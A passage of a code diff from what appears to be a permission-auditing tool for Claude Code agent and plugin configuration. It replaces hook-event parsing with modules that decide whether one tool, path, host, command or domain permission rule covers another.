-  license metadata author tags category title compatibility
+  license metadata author tags category title compatibility disallowedTools fallback created_by
+  improved_by displayName homepage repository keywords
 `));
 const textKeys = new Set([
 	"description",
@@ -13805,311 +14799,355 @@ function withMaskedTexts(text, keys) {
 function maskOf(text) {
 	return text.replace(/[^\r]/g, "x");
 }
-// src/powers/support/hook-events.ts
-const event = (start, more = {}) => ({
-	start,
-	hasMatcher: true,
-	isToolEvent: false,
-	isGuard: false,
-	...more
-});
-const toolEvent = (start) => event(start, { isToolEvent: true });
-const withoutMatcher = event("event", { hasMatcher: false });
-const claudeEvents = new Map([
-	["SessionStart", event("session")],
-	["Setup", event("session")],
-	["InstructionsLoaded", event("session")],
-	["UserPromptSubmit", event("prompt", { hasMatcher: false })],
-	["UserPromptExpansion", event("prompt")],
-	["PreToolUse", {
-		...toolEvent("before-tool"),
-		isGuard: true
-	}],
-	["PermissionRequest", {
-		...toolEvent("before-tool"),
-		isGuard: true
-	}],
-	["PermissionDenied", toolEvent("after-tool")],
-	["PostToolUse", toolEvent("after-tool")],
-	["PostToolUseFailure", toolEvent("after-tool")],
-	["PostToolBatch", event("after-tool", { hasMatcher: false })],
-	...[
-		"Stop",
-		"TeammateIdle",
-		"TaskCreated",
-		"TaskCompleted",
-		"WorktreeCreate"
-	].map((name) => [name, withoutMatcher]),
-	...[
-		"WorktreeRemove",
-		"MessageDisplay",
-		"CwdChanged"
-	].map((name) => [name, withoutMatcher]),
-	...[
-		"SessionEnd",
-		"Notification",
-		"SubagentStart",
-		"SubagentStop",
-		"StopFailure"
-	].map((name) => [name, event("event")]),
-	...[
-		"ConfigChange",
-		"DirectoryAdded",
-		"FileChanged",
-		"PreCompact",
-		"PostCompact"
-	].map((name) => [name, event("event")]),
-	...["Elicitation", "ElicitationResult"].map((name) => [name, event("event")])
+// src/contract/coverage/certain-tools.ts
+const name = /^[\w*][\w*.:@/-]*$/;
+const nested$1 = /(?:^|[\s,;|])(?:[A-Z]\w*|mcp__\w+)\(/;
+function isCertainTool(entry) {
+	const open = entry.indexOf("(");
+	if (open < 0) return name.test(entry);
+	const scope = entry.slice(open + 1, -1);
+	return name.test(entry.slice(0, open)) && closesAtEnd(entry, open) && !nested$1.test(scope);
+}
+function closesAtEnd(entry, open) {
+	let depth = 0;
+	for (let index = open; index < entry.length; index++) {
+		if (entry[index] === "(") depth++;
+		if (entry[index] === ")") depth--;
+		if (depth === 0) return index === entry.length - 1;
+	}
+	return false;
+}
+// src/contract/coverage/difference.ts
+const maxCompared = 500;
+function uncoveredEntries(allowed, requested, createTest) {
+	const known = new Set(allowed);
+	const uncovered = [...new Set(requested)].filter((entry) => !known.has(entry));
+	if (known.size > maxCompared || uncovered.length > maxCompared) return uncovered;
+	const covers = createTest([...known]);
+	return uncovered.filter((entry) => !covers(entry));
+}
+const tokenForm = /\*+|[^*]/gu;
+function coversGlobText(wider, narrower) {
+	if (wider === narrower) return true;
+	if (!wider.includes("*") || wider.length + narrower.length > 500) return false;
+	const texts = narrower.match(tokenForm) ?? [];
+	let row = [true, ...texts.map(() => false)];
+	for (const token of wider.match(tokenForm) ?? []) {
+		const isStar = token.startsWith("*");
+		const next = [isStar && row[0] === true];
+		for (const [index, text] of texts.entries()) {
+			const isMatch = isStar ? row[index + 1] || next[index] : row[index] && token === text;
+			next.push(isMatch === true);
+		}
+		row = next;
+	}
+	return row[texts.length] === true;
+}
+// src/contract/coverage/glob-path.ts
+const harmlessClass = /\[\w(?:[\w-]*\w)?\]/g;
+const harmlessChoice = /\{\w+(?:,\w+)*\}/g;
+function kindOfSegment(segment) {
+	if (segment === "**") return "folders";
+	if (segment === "*") return "glob";
+	if (isUnpredictable(segment)) return "opaque";
+	const expanded = segment.replace(harmlessClass, (text) => text.includes("--") ? text : "x").replace(harmlessChoice, "x");
+	if (/[[\]{}]|[?*+@!]\(/.test(expanded)) return "opaque";
+	if (!/[*?]/.test(expanded)) return expanded === segment ? "name" : "glob";
+	return /[^.*?]/.test(expanded) ? "glob" : "opaque";
+}
+function isUnpredictable(segment) {
+	if (/[$%\\:\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(segment)) return true;
+	return /^[. ]*$/.test(segment) || /[. ]$/.test(segment) || /^\s|\s$/.test(segment);
+}
+function coversSegments(wider, narrower) {
+	let row = [true, ...narrower.map(() => false)];
+	for (const [index, segment] of wider.entries()) {
+		const isLast = index === wider.length - 1;
+		row = segment === "**" ? afterAnyFolders(row, isLast) : afterSegment(row, segment, narrower);
+	}
+	return row[narrower.length] === true;
+}
+function afterAnyFolders(row, isLast) {
+	const first = row.indexOf(true);
+	return row.map((_, index) => first >= 0 && index >= first + (isLast ? 1 : 0));
+}
+function afterSegment(row, segment, narrower) {
+	return [false, ...narrower.map((name, index) => row[index] === true && coversSegment(segment, name))];
+}
+function coversSegment(wider, narrower) {
+	if (wider === narrower) return true;
+	if (narrower.includes("**") || wider.includes("{")) return false;
+	if (!/[[?]/.test(wider)) return coversGlobText(wider, narrower);
+	return kindOfSegment(narrower) === "name" && matchesName$1(wider, narrower);
+}
+const partForm = /\*+|\[\w[\w-]*\]|[^*]/gu;
+function matchesName$1(segment, name) {
+	if (segment.length > 500 || name.length > 500) return false;
+	const characters = [...name];
+	let row = [true, ...characters.map(() => false)];
+	for (const part of segment.match(partForm) ?? []) {
+		const isStar = part.startsWith("*");
+		const next = [isStar && row[0] === true];
+		for (const [index, character] of characters.entries()) {
+			const isMatch = isStar ? row[index + 1] || next[index] : row[index] && matchesPart(part, character);
+			next.push(isMatch === true);
+		}
+		row = next;
+	}
+	return row[characters.length] === true;
+}
+function matchesPart(part, character) {
+	if (part === "?") return true;
+	if (!part.startsWith("[")) return part === character;
+	return (part.slice(1, -1).match(/\w-\w|[\w-]/g) ?? []).some((range) => range.charAt(0) <= character && character <= range.charAt(range.length - 1));
+}
+// src/contract/coverage/host-patterns.ts
+const form$1 = /^(?:([a-z][a-z0-9+.-]*):\/\/)?(\*|\[[0-9a-f:.]+\]|[\p{L}\p{M}\p{N}_*.-]*[\p{L}\p{M}\p{N}_-])(?:(?<!\*)\.)?(?::(\d{1,5}))?([/?#].*)?$/isu;
+function parseHostPattern(text) {
+	const [, scheme, host, port, suffix = ""] = form$1.exec(text) ?? [];
+	if (host === void 0 || hasEmptyLabel(host)) return null;
+	return {
+		host: host.toLowerCase(),
+		scheme: scheme?.toLowerCase() ?? null,
+		port: port === void 0 ? null : String(Number(port)),
+		suffix: suffix === "/" ? "" : suffix,
+		text
+	};
+}
+function hasEmptyLabel(host) {
+	return host.startsWith(".") || host.includes("..");
+}
+function coversHostPattern(wider, narrower) {
+	if (wider.text === narrower.text) return true;
+	if (wider.scheme !== null && wider.scheme !== narrower.scheme) return false;
+	if (wider.suffix !== "" && wider.suffix !== narrower.suffix) return false;
+	return coversHost(wider.host, narrower.host) && coversPort(wider, narrower);
+}
+const defaultPorts = new Map([
+	["http", "80"],
+	["https", "443"],
+	["ws", "80"],
+	["wss", "443"]
 ]);
-// src/powers/support/hook-handlers.ts
-function readHandler$1(handler, context) {
-	const type = text$1(get(handler, "type"));
-	const read = handler.kind === "table" && type !== void 0 ? readers$1[type] : void 0;
-	if (!read) {
-		const written = get(handler, "type") ?? handler;
-		const message = msg`Unknown type ${shownValue(written)} of a ${code$1(context.event)} hook.`;
-		const help = msg`Use one of ${list(Object.keys(readers$1).map((known) => code$1(known)), { limit: 9 })}.`;
-		const unknown = {
-			scope: type ?? source(written) ?? written.kind,
-			reach: "unknown"
-		};
-		return {
-			...combine$1({
-				grants: [{
-					...grantAt(handler, context),
-					...unknown
-				}],
-				faults: [grantFault(message, handler.at, help)]
-			}),
-			canBlock: false
-		};
+function coversPort(wider, narrower) {
+	if (wider.port === narrower.port || wider.port === null && wider.scheme === null) return true;
+	if (wider.port !== null) return false;
+	return narrower.port === defaultPorts.get(wider.scheme ?? "");
+}
+function coversHost(wider, narrower) {
+	if (wider === narrower || wider === "*") return true;
+	if (!wider.startsWith("*.") || wider.includes("*", 1)) return false;
+	const domain = narrower.startsWith("*.") ? narrower.slice(2) : narrower;
+	if (domain.includes("*")) return false;
+	const parent = wider.slice(1);
+	return domain.endsWith(parent) && domain.length > parent.length;
+}
+// src/contract/coverage/commands.ts
+const maxWords$1 = 32;
+const plainLine = /^(?![^ ]*=)[\p{L}\p{N}_./:@+,%=-]+(?: [\p{L}\p{N}_./:@+,%=-]+)*$/u;
+const percentVariable = /%[^% ]+%/;
+function isPlainCommand(line) {
+	return plainLine.test(line) && !percentVariable.test(line);
+}
+function prefixesOf(line) {
+	const prefixes = [line];
+	if (!isPlainCommand(line)) return prefixes;
+	let end = line.indexOf(" ");
+	while (end >= 0 && prefixes.length <= maxWords$1) {
+		prefixes.push(line.slice(0, end));
+		end = line.indexOf(" ", end + 1);
 	}
-	const unread = unreadFields(handler, knownKeys$4, `hooks.${context.event}[].hooks[].`);
-	const faults = handlerFaults(handler, context);
-	const canBlock = claudeEvents.get(context.event)?.isGuard === true && type === "command" && flag$1(get(handler, "async")) !== true && flag$1(get(handler, "asyncRewake")) !== true;
+	return prefixes;
+}
+function coversCommand(commands, line) {
+	return prefixesOf(line).some((prefix) => commands.has(prefix));
+}
+// src/contract/coverage/tool-commands.ts
+function coversToolCommand(wider, narrower) {
+	if (wider === narrower) return true;
+	if (!isPlainPattern(wider) || !isPlainPattern(narrower)) return false;
+	const [outer, inner] = [withStar(wider), withStar(narrower)];
+	if (coversGlobText(outer, inner)) return true;
+	return outer.endsWith(" *") && outer.indexOf("*") === outer.length - 1 ? outer.slice(0, -2) === inner : false;
+}
+function withStar(text) {
+	return text.replace(/:\*$/, " *");
+}
+function isPlainPattern(text) {
+	const bare = withStar(text);
+	return !/,|:\*|^\*/.test(bare) && isPlainCommand(bare.replaceAll("*", "x"));
+}
+// src/contract/coverage/path-patterns.ts
+const originPattern = /^(?:~[\w-]*|\$\w+|\$\{\w+\})$/;
+function parsePathPattern(text) {
+	const [first = "", ...remainder] = text.split("/");
+	const isOrigin = originPattern.test(first);
+	const from = text.startsWith("/") ? "/" : isOrigin ? first : ".";
+	const rawSegments = isOrigin || from === "/" ? remainder : [first, ...remainder];
+	const { parentCount, segments } = resolveSegments(rawSegments);
+	const kinds = new Set(segmentsOf(rawSegments).map(kindOfSegment));
+	const isGlob = kinds.has("glob") || kinds.has("folders");
+	const isOpaque = text === "" || text !== text.trim() || kinds.has("opaque") || isGlob && rawSegments.includes("..");
+	const isTilde = !isOrigin && from === "." && first.startsWith("~");
 	return {
-		...combine$1({
-			grants: read(handler, context),
-			unread,
-			faults
-		}),
-		canBlock
+		from,
+		parentCount: from === "/" ? 0 : parentCount,
+		segments,
+		isGlob,
+		isOpaque: isOpaque || isTilde,
+		text
 	};
 }
-const knownKeys$4 = new Set(wordList(`
-  type command args async asyncRewake shell timeout url headers allowedEnvVars server tool input
-  prompt model continueOnBlock if statusMessage once rewakeMessage rewakeSummary
+function coversPath(wider, narrower) {
+	if (wider.text === narrower.text) return true;
+	if (wider.isOpaque || narrower.isOpaque) return false;
+	if (wider.from === "/" && wider.segments.length === 0) return true;
+	if (wider.from !== narrower.from) return false;
+	if (wider.parentCount > narrower.parentCount) return wider.segments.length === 0;
+	if (wider.parentCount < narrower.parentCount) return false;
+	if (wider.isGlob) return coversSegments(wider.segments, narrower.segments);
+	return wider.segments.every((segment, index) => segment === narrower.segments[index]);
+}
+function resolveSegments(rawSegments) {
+	let parentCount = 0;
+	const segments = [];
+	for (const segment of rawSegments) {
+		if (segment === "" || segment === ".") continue;
+		if (segment !== "..") segments.push(segment);
+		else if (segments.pop() === void 0) parentCount++;
+	}
+	return {
+		parentCount,
+		segments
+	};
+}
+function segmentsOf(rawSegments) {
+	return rawSegments.filter((segment) => segment !== "" && segment !== "." && segment !== "..");
+}
+// src/contract/coverage/tool-paths.ts
+function parseToolPath(text) {
+	const from = /^(?:\/\/|~(?=\/)|\/)/.exec(text)?.[0] ?? ".";
+	const rawSegments = text.slice(from === "." ? 0 : from.length).split("/");
+	const { parentCount, segments } = resolveSegments(rawSegments);
+	const kinds = new Set(segmentsOf(rawSegments).map(kindOfSegment));
+	const isGlob = kinds.has("glob") || kinds.has("folders");
+	const isOpaque = segments.length === 0 || kinds.has("opaque") || parentCount > 0 || isGlob && rawSegments.includes("..");
+	return {
+		from,
+		segments,
+		text,
+		isFloating: from === "." && !text.replace(/\/+$/, "").includes("/"),
+		isFolder: text.endsWith("/"),
+		isOpaque: isOpaque || isList$1(text) || /^[!#~]/.test(text.replace(/^~\//, ""))
+	};
+}
+function isList$1(text) {
+	return text.replace(/\{[^{}]*\}/g, "").includes(",");
+}
+function coversToolPath(wider, narrower) {
+	if (wider.text === narrower.text) return true;
+	if (wider.isOpaque || narrower.isOpaque || wider.from !== narrower.from) return false;
+	if (narrower.text === "*") return false;
+	if (wider.text === "*") return true;
+	if (wider.isFolder && !narrower.isFolder) return false;
+	return coversSegments(wider.segments, narrower.segments) && coversSegments(anyDepth(wider), anyDepth(narrower));
+}
+function anyDepth({ isFloating, segments }) {
+	return isFloating ? ["**", ...segments] : segments;
+}
+// src/contract/coverage/tools.ts
+function compareTools(before, after) {
+	const createTest = coverageTestWith(coversName);
+	return {
+		gained: uncoveredEntries(before, after, createTest),
+		lost: uncoveredEntries(after, before, createTest)
+	};
+}
+function ungrantedTools(granted, requested) {
+	return uncoveredEntries(granted, requested, coverageTestWith(matchesName));
+}
+function coversTool(wider, narrower) {
+	if (wider === narrower) return true;
+	return isCertainTool(narrower) && coversPermission(parsePermission(wider), parsePermission(narrower), coversName);
+}
+function toolGroup(entry) {
+	const { tool, scope } = parsePermission(entry);
+	const name = /^mcp__(?:(?!__)[\w.-])+/.exec(tool)?.[0] ?? tool;
+	const start = scope === null ? void 0 : literalStart(tool, scope);
+	return {
+		tool: name,
+		own: start === void 0 ? name : `${name}\0${start}`
+	};
+}
+function literalStart(tool, scope) {
+	if (pathTools.has(tool)) {
+		const { from, segments } = parseToolPath(scope);
+		const [first = ""] = segments;
+		return kindOfSegment(first) === "name" ? from + first : void 0;
+	}
+	if (tool !== "Bash") return scope === "*" || tool === "WebFetch" ? void 0 : scope;
+	const [first = ""] = scope.replace(/:\*$/, "").split(/\s/, 1);
+	return first.includes("*") ? void 0 : first;
+}
+function coverageTestWith(matchesName) {
+	return (allowed) => {
+		const permissions = allowed.map(parsePermission);
+		return (requested) => {
+			if (!isCertainTool(requested)) return allowed.includes(requested);
+			const permission = parsePermission(requested);
+			return permissions.some((wider) => coversPermission(wider, permission, matchesName));
+		};
+	};
+}
+function coversPermission(wider, narrower, matchesName) {
+	return matchesName(wider.tool, narrower.tool) && coversScope(wider, narrower);
+}
+function parsePermission(entry) {
+	const rule = normalizeTool(entry);
+	const open = rule.indexOf("(");
+	if (open <= 0 || !rule.endsWith(")")) return {
+		tool: rule,
+		scope: null
+	};
+	return {
+		tool: rule.slice(0, open),
+		scope: rule.slice(open + 1, -1)
+	};
+}
+function normalizeTool(rule) {
+	const [, tool] = /^([^()]+)\(\*\)$/.exec(rule) ?? [];
+	if (tool !== void 0 && !pathTools.has(tool)) return tool;
+	return rule.replace(/^(Bash\([^()]*[^\s()*]):\*\)$/, "$1 *)");
+}
+function coversScope({ tool, scope }, narrower) {
+	if (scope === null || scope === narrower.scope) return true;
+	if (scope === "domain:*" && tool === "WebFetch") return true;
+	if (narrower.scope === null || tool !== narrower.tool) return false;
+	if (tool === "Bash") return coversToolCommand(scope, narrower.scope);
+	if (pathTools.has(tool)) return coversToolPath(parseToolPath(scope), parseToolPath(narrower.scope));
+	return tool === "WebFetch" && coversDomain(scope, narrower.scope);
+}
+const pathTools = new Set(wordList(`
+  Read Edit Write MultiEdit NotebookRead NotebookEdit Glob Grep LS
 `));
-const readers$1 = {
-	command: (handler, context) => {
-		const args = items(get(handler, "args")).map((item) => source(item) ?? "");
-		const command = text$1(get(handler, "command"));
-		const line = args.length > 0 ? [command ?? "", joinWords(args)].join(" ") : command ?? "";
-		const grant = grantAt(get(handler, "command") ?? handler, context);
-		if (command === void 0) return [{
-			...grant,
-			reach: "unknown"
-		}];
-		const run = args.length > 0 ? [command, ...args] : line;
-		return [{
-			...grant,
-			scope: line.trim(),
-			pin: pinOf$1(line),
-			command: run
-		}];
-	},
-	http: (handler, context) => {
-		const url = get(handler, "url");
-		const grant = grantAt(url ?? handler, context);
-		const host = hostOf$1(text$1(url));
-		const remark = "the event is sent there whole";
-		const sent = {
-			...grant,
-			kind: "net",
-			scope: host.name,
-			remark
-		};
-		const secrets = secretsSent(handler, host.name, ["headers", "url"]);
-		const { subject, trigger } = grant;
-		return [host.isKnown ? sent : {
-			...sent,
-			reach: "unknown"
-		}, ...secrets.map((secret) => ({
-			...secret,
-			subject,
-			trigger
-		}))];
-	},
-	mcp_tool: (handler, context) => {
-		const names = ["server", "tool"].map((key) => text$1(get(handler, key)) ?? "");
-		return [{
-			...grantAt(get(handler, "tool") ?? handler, context),
-			kind: "mcp",
-			scope: names.join(" / ")
-		}];
-	},
-	prompt: (handler, context) => [promptGrant(handler, context)],
-	agent: (handler, context) => [promptGrant(handler, context)]
-};
-function promptGrant(handler, context) {
-	const prompt = get(handler, "prompt");
-	return {
-		...grantAt(prompt ?? handler, context),
-		kind: "delegate",
-		scope: (text$1(prompt) ?? "").trim()
-	};
+const plainName$2 = /^[\w.*-]+$/;
+function coversName(wider, narrower) {
+	if (wider === narrower) return true;
+	const server = /^(mcp__(?:(?!__)[\w.-])+)(?:__\*)?$/.exec(wider)?.[1];
+	if (!plainName$2.test(narrower)) return false;
+	if (server !== void 0) return narrower === server || narrower.startsWith(`${server}__`);
+	return /^mcp__(?:(?!__)[\w.-])+__/.test(wider) && coversGlobText(wider, narrower);
 }
-function grantAt({ at }, { event, trigger }) {
-	return {
-		kind: "run",
-		feature: "hook",
-		scope: "",
-		reach: "one",
-		subject: event,
-		trigger,
-		at
-	};
+function matchesName(wider, narrower) {
+	return wider === "*" || coversName(wider, narrower) || plainName$2.test(narrower) && coversGlobText(wider, narrower);
 }
-function handlerFaults(handler, { event, trigger }) {
-	const condition = get(handler, "if");
-	const once = get(handler, "once");
-	const known = claudeEvents.get(event);
-	const faults = [];
-	if (condition && known && !known.isToolEvent) {
-		const message = msg`${code$1(event)} hook never runs: ${code$1("if")} needs an event of tools.`;
-		faults.push(grantFault(message, condition.at));
-	}
-	if (flag$1(once) === true && trigger.once === void 0) {
-		const message = msg`${code$1("once")} has no effect outside skills: the hook runs at each ${code$1(event)}.`;
-		faults.push(grantFault(message, once?.at ?? handler.at));
-	}
-	return faults;
-}
-// src/powers/support/matchers.ts
-function claudeMatcher(text) {
-	if ([
-		"",
-		"*",
-		".*",
-		"^.*$"
-	].includes(text)) return void 0;
-	if (!/^[\w\- ,|]+$/.test(text)) return {
-		text,
-		names: null
-	};
-	const names = text.split(/[|,]/).map((name) => name.trim());
-	return {
-		text,
-		names: [...new Set(names.filter((name) => name !== ""))].sort()
-	};
-}
-// src/powers/support/repeated-hooks.ts
-function repeatedHooks(grants, consequence) {
-	return [...groupBy(grants.filter(({ kind }) => kind !== "guard" && kind !== "secret"), ({ kind, scope, subject, trigger }) => JSON.stringify([
-		kind,
-		scope,
-		subject,
-		trigger
-	])).values()].flatMap(([first, second]) => {
-		if (!first || !second) return [];
-		return [grantFault(msg`Duplicate ${code$1(first.subject)} hook ${code$1(first.scope, 120)}: ${words(consequence)}.`, second.at)];
-	});
-}
-// src/powers/support/hooks.ts
-function readHooks(value, home) {
-	if (!value) return combine$1();
-	if (value.kind !== "table") return combine$1({ faults: [{
-		...wrongType("hooks", value, {
-			expected: "a mapping of events",
-			consequence: "no hook of it is loaded"
-		}),
-		isUnreadable: true
-	}] });
-	const read = combine$1(...fields(value).map((event) => readEvent$1(event, home)));
-	return combine$1(read, { faults: repeatedHooks(read.grants, "the second adds nothing") });
-}
-function readEvent$1({ key, keyAt, value }, home) {
-	if (value.kind !== "list") return combine$1({ faults: [{
-		...wrongType(key, value, {
-			expected: "a list of hooks",
-			consequence: "none of them is loaded"
-		}),
-		isUnreadable: true
-	}] });
-	const known = claudeEvents.get(key);
-	const similar = known ? null : suggest(key, claudeEvents.keys());
-	const help = similar ? msg`Write ${code$1(similar)}.` : void 0;
-	const fault = grantFault(msg`Unknown event ${code$1(key)} of Claude Code.`, keyAt, help);
-	const groups = value.items.map((group) => readGroup(group, key, home));
-	return combine$1({ faults: known ? [] : [fault] }, ...groups);
-}
-function readGroup(group, event, home) {
-	const expected = {
-		expected: msg`a mapping with ${code$1("hooks")}`,
-		consequence: "its hooks are not loaded"
-	};
-	const handlers = get(group, "hooks");
-	if (group.kind !== "table" || handlers?.kind !== "list") return combine$1({ faults: [{
-		...wrongType(event, handlers ?? group, expected),
-		isUnreadable: true
-	}] });
-	const unread = unreadFields(group, groupKeys, `hooks.${event}[].`);
-	const read = items(handlers).map((handler) => {
-		return readHandler$1(handler, {
-			event,
-			trigger: triggerOf$1(event, group, handler, home),
-			unit: home.unit
-		});
-	});
-	const guards = read.some(({ canBlock }) => canBlock) ? [guardOf(event, group, home)] : [];
-	return combine$1({
-		unread,
-		faults: groupFaults(event, group),
-		grants: guards
-	}, ...read);
-}
-const groupKeys = new Set(["matcher", "hooks"]);
-function triggerOf$1(event, group, handler, home) {
-	const known = claudeEvents.get(event);
-	const matcher = get(group, "matcher");
-	const written = matcher && (text$1(matcher) ?? "\0");
-	return {
-		start: known?.start ?? "event",
-		event,
-		matcher: known?.hasMatcher === false ? void 0 : claudeMatcher(written ?? ""),
-		condition: text$1(get(handler, "if")),
-		once: home.honoursOnce && get(handler, "once")?.kind === "boolean" ? isTrue(handler) : void 0
-	};
-}
-function isTrue(handler) {
-	const once = get(handler, "once");
-	return once?.kind === "boolean" && once.value === true ? true : void 0;
-}
-function guardOf(event, group, home) {
-	return {
-		kind: "guard",
-		feature: "hook",
-		scope: event,
-		reach: "one",
-		subject: event,
-		trigger: {
-			...triggerOf$1(event, group, group, home),
-			condition: void 0
-		},
-		at: group.at
-	};
-}
-function groupFaults(event, group) {
-	const matcher = get(group, "matcher");
-	const written = text$1(matcher);
-	if (!matcher || written === "" || written === "*") return [];
-	if (written === void 0) return [wrongType("matcher", matcher, {
-		expected: "a string",
-		consequence: "Claude Code loads none of these hooks"
-	})];
-	if (claudeEvents.get(event)?.hasMatcher === false) return [grantFault(msg`${code$1("matcher")} has no effect on ${code$1(event)}: the hook runs at each.`, matcher.at)];
-	if (/^mcp__[\w-]+$/.test(written) && !/^mcp__.+__/.test(written)) return [grantFault(msg`The matcher ${code$1(written)} matches no tool.`, matcher.at, msg`Write ${code$1(`${written}__.*`)}.`)];
-	return [];
+const domainForm = /^domain:([a-z0-9.*-]+)$/i;
+function coversDomain(wider, narrower) {
+	const [outer, inner] = [wider, narrower].map((scope) => domainForm.exec(scope)?.[1]);
+	if (outer === void 0 || inner === void 0 || outer !== outer.toLowerCase()) return false;
+	if (outer.endsWith(".") !== inner.endsWith(".")) return false;
+	const [wide, narrow] = [parseHostPattern(outer), parseHostPattern(inner)];
+	return wide !== null && narrow !== null && coversHostPattern(wide, narrow);
 }
 // src/dialects/agent-skills/tools.ts
 function toolsOf(value) {
@@ -14173,11 +15211,11 @@ function toolGrants(field, base, unit) {
 		reach: "unknown",
 		at
 	}];
-	const isAllowed = base.kind === "approve";
-	return rules.filter((rule) => !isAllowed || deadRule(rule, true) === null).map((rule) => {
-		const command = unit && commandOf$1(rule);
+	const isOfOneClient = base.kind === "approve" && base.feature !== "tool-rule";
+	return rules.filter((rule) => !isOfOneClient || deadRule(rule, true) === null).map((rule) => {
+		const command = unit && commandOf$2(rule);
 		return {
-			scope: normalizeRule(rule),
+			scope: normalizeTool(rule),
 			reach: "tool",
 			at,
 			command,
@@ -14185,12 +15223,9 @@ function toolGrants(field, base, unit) {
 		};
 	});
 }
-function commandOf$1(rule) {
+function commandOf$2(rule) {
 	const [, command] = /^Bash\((.*?\$\{?(?:CLAUDE|PLUGIN)_.*?)(?::\*)?\)$/s.exec(rule) ?? [];
 	return command;
-}
-function normalizeRule(rule) {
-	return rule.replace(/^(\w+)\(\*\)$/, "$1").replace(/^(Bash\([^()]*[^\s()*]):\*\)$/, "$1 *)");
 }
 function deadToolRules(field) {
 	if (!field) return [];
@@ -14201,108 +15236,115 @@ function deadToolRules(field) {
 	});
 }
 // src/powers/carriers/claude-agent.ts
+const rows$12 = [
+	...grants$1("delegate", "tools", "the tools of the agent; absent: any tool"),
+	...grants$1("guard", "disallowedTools", "takes the tools away from the agent"),
+	...grants$1("approve", "permissionMode", "what happens without asking; no effect in a plugin"),
+	...grants$1("mcp", "mcpServers", "as in `.mcp.json`, or the name of a server; no effect in a plugin"),
+	...grants$1("run", "hooks", "as in `hooks/hooks.json`, while the agent works; no effect in a plugin"),
+	...grants$1("delegate", "skills", "loads the texts of the skills at the start"),
+	...grants$1("write", "memory", "keeps notes between runs, for `user` in the home folder"),
+	...grants$1("auto", "background", "`true`: it runs in the background"),
+	...grants$1("guard", "isolation", "`worktree`: it works in a copy of the repository"),
+	...grants$1("auto", "initialPrompt", "the first prompt where it leads the session"),
+	...grants$1("delegate", "observer", "another agent watches it", {
+		read: observers,
+		example: {
+			tools: "Read",
+			observer: "watcher"
+		}
+	}),
+	...grants$1("settings", "observeToolResults, observeSubagents", "decides what observers see", {
+		read: opaque(),
+		example: {
+			tools: "Read",
+			observeSubagents: "false"
+		}
+	}),
+	...grants$1("settings", "omitClaudeMd", "true: works without the instructions of the project", {
+		read: opaque(),
+		example: {
+			tools: "Read",
+			omitClaudeMd: "true"
+		}
+	}),
+	...harmless$1(`
+    autoCompactWindow observerMessage experimental
+    name description model maxTurns effort color version author license metadata tags category
+  `),
+	...eventRows()
+];
+const agentKeys = new Set(rows$12.map(({ field }) => field));
 const claudeAgent = {
 	id: "claude-agent",
-	title: "`.claude/agents/*.md`, and `agents/*.md` of a plugin",
+	paths: [".claude/agents/**/*.md", "<plugin>/agents/**/*.md"],
 	client: "Claude Code",
 	extensions: ["md"],
-	fields: [
-		{
-			field: "tools",
-			kind: "delegate",
-			description: "the tools of the agent; absent: any tool"
-		},
-		{
-			field: "disallowedTools",
-			kind: "guard",
-			description: "takes the tools away from the agent"
-		},
-		{
-			field: "permissionMode",
-			kind: "approve",
-			description: "what happens without asking; no effect in a plugin"
-		},
-		{
-			field: "mcpServers",
-			kind: "mcp",
-			description: "as in `.mcp.json`, or the name of a server; no effect in a plugin"
-		},
-		{
-			field: "hooks",
-			kind: "run",
-			description: "as in `hooks/hooks.json`, while the agent works; no effect in a plugin"
-		},
-		{
-			field: "skills",
-			kind: "delegate",
-			description: "loads the texts of the skills at the start"
-		},
-		{
-			field: "memory",
-			kind: "write",
-			description: "keeps notes between runs, for `user` in the home folder"
-		},
-		{
-			field: "background",
-			kind: "auto",
-			description: "`true`: it runs in the background"
-		},
-		{
-			field: "isolation",
-			kind: "guard",
-			description: "`worktree`: it works in a copy of the repository"
-		},
-		{
-			field: "initialPrompt",
-			kind: "auto",
-			description: "the first prompt where it leads the session"
-		}
-	],
+	rows: rows$12,
 	unitOf: agentOf,
-	read({ path, text, unit }) {
+	read(source) {
+		const { path, text, unit } = source;
 		const file = readLenientFrontmatter(path, text, agentKeys);
 		const { frontmatter, isUnreadable, isMasked } = file;
 		if (isUnreadable) return combine$1({ faults: [unreadableFrontmatter(file, path)] });
 		const isOfProject = isProjectAgent(path);
-		if (!frontmatter) return isOfProject ? nothing$1 : combine$1({ grants: [anyTool({ path })] });
+		if (!frontmatter) return isOfProject ? nothing$1 : combine$1({ grants: [anyTool$1({ path })] });
 		return combine$1({
 			name: text$1(get(frontmatter, "name")),
 			faults: loadFaults(frontmatter, isOfProject)
-		}, { faults: isMasked ? [maskedFault(frontmatter, isOfProject)] : [] }, tools$2(frontmatter, path), skills$3(frontmatter), settingGrants(frontmatter), isOfProject ? projectGrants(frontmatter, unit) : { faults: ignoredFields(frontmatter) }, {
-			faults: unknownChoices(frontmatter, { effort }),
-			unread: unreadFields(frontmatter, agentKeys)
-		});
+		}, { faults: isMasked ? [maskedFault(frontmatter, isOfProject)] : [] }, tools$3(frontmatter, path), skills$3(frontmatter), settingGrants(frontmatter), isOfProject ? projectGrants(frontmatter, unit) : { faults: ignoredFields(frontmatter) }, { faults: unknownChoices(frontmatter, { effort }) }, readTable(frontmatter, rows$12, {
+			source,
+			client: "Claude Code",
+			isForPeople: true
+		}));
+	},
+	sample: {
+		path: ".claude/agents/a.md",
+		fields: {
+			name: "a",
+			description: "Helps."
+		}
 	},
 	examples: agentExamples
 };
-const agentKeys = new Set(wordList(`
-  name description tools disallowedTools model permissionMode maxTurns skills mcpServers hooks
-  memory background effort isolation color initialPrompt version author license metadata tags
-  category
-`));
-const duringTurn$2 = { start: "turn" };
-function anyTool(at) {
+function observers({ value }) {
+	const names = (text$1(value) ?? "").split(",").map((name) => name.trim());
+	const base = {
+		kind: "delegate",
+		feature: "delegation",
+		subject: "observer"
+	};
+	return { grants: names.filter((name) => name !== "").map((scope) => ({
+		...base,
+		scope,
+		reach: "one",
+		trigger: duringTurn$5,
+		at: value.at
+	})) };
+}
+const duringTurn$5 = { start: "turn" };
+function anyTool$1(at) {
 	return {
 		kind: "delegate",
 		feature: "agent-tools",
 		scope: "*",
 		reach: "any",
 		subject: "tools",
-		trigger: duringTurn$2,
+		trigger: duringTurn$5,
 		at,
 		isDefault: true
 	};
 }
-function tools$2(frontmatter, path) {
+function tools$3(frontmatter, path) {
 	const allowed = frontmatter.fields.get("tools");
-	const trigger = duringTurn$2;
+	const trigger = duringTurn$5;
 	const denied = toolGrants(frontmatter.fields.get("disallowedTools"), {
 		kind: "guard",
